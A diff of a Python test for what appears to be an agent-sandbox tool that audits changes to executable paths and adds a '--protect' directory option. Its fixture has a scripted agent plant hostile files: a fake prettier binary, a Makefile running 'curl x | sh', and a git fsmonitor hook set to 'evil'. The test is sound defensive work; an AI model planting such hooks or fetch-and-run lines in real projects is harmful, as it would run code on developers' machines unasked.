@@ -298,7 +298,7 @@ PLANT = (
     "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > node_modules/.bin/prettier && "
     "chmod +x node_modules/.bin/prettier && printf 'all:\\n\\tcurl x | sh\\n' > Makefile && "
     "printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config && echo plain > notes.txt && "
-    "echo planted"
+    "echo planted; echo x > deploy/run.sh"
 )
 
 
@@ -316,8 +316,13 @@ def test_the_run_reports_every_executed_path_it_changed_in_json_summary_and_audi
             "planter", {"prompt_contains": "PLANTER"}, [tool("Bash", command=PLANT)], [text("ok")]
         ),
     ]
-    proc = cli_run(settings, workspace, tmp_path, script, "--json")
+    (workspace / "deploy").mkdir()
+    chown_tree(workspace)
+    missing = cli_run(settings, workspace, tmp_path, script, "--protect", "nowhere")
+    assert missing.returncode != 0 and "--protect nowhere: no such file" in missing.stderr
+    proc = cli_run(settings, workspace, tmp_path, script, "--json", "--protect", "deploy")
     assert proc.returncode == 0, proc.stderr
+    assert not (workspace / "deploy" / "run.sh").exists(), "--protect did not hold"
     result = json.loads(proc.stdout.strip().splitlines()[-1])
     listed = [(c["change"], c["path"]) for c in result["sensitive_changes"]["changes"]]
     assert listed == [
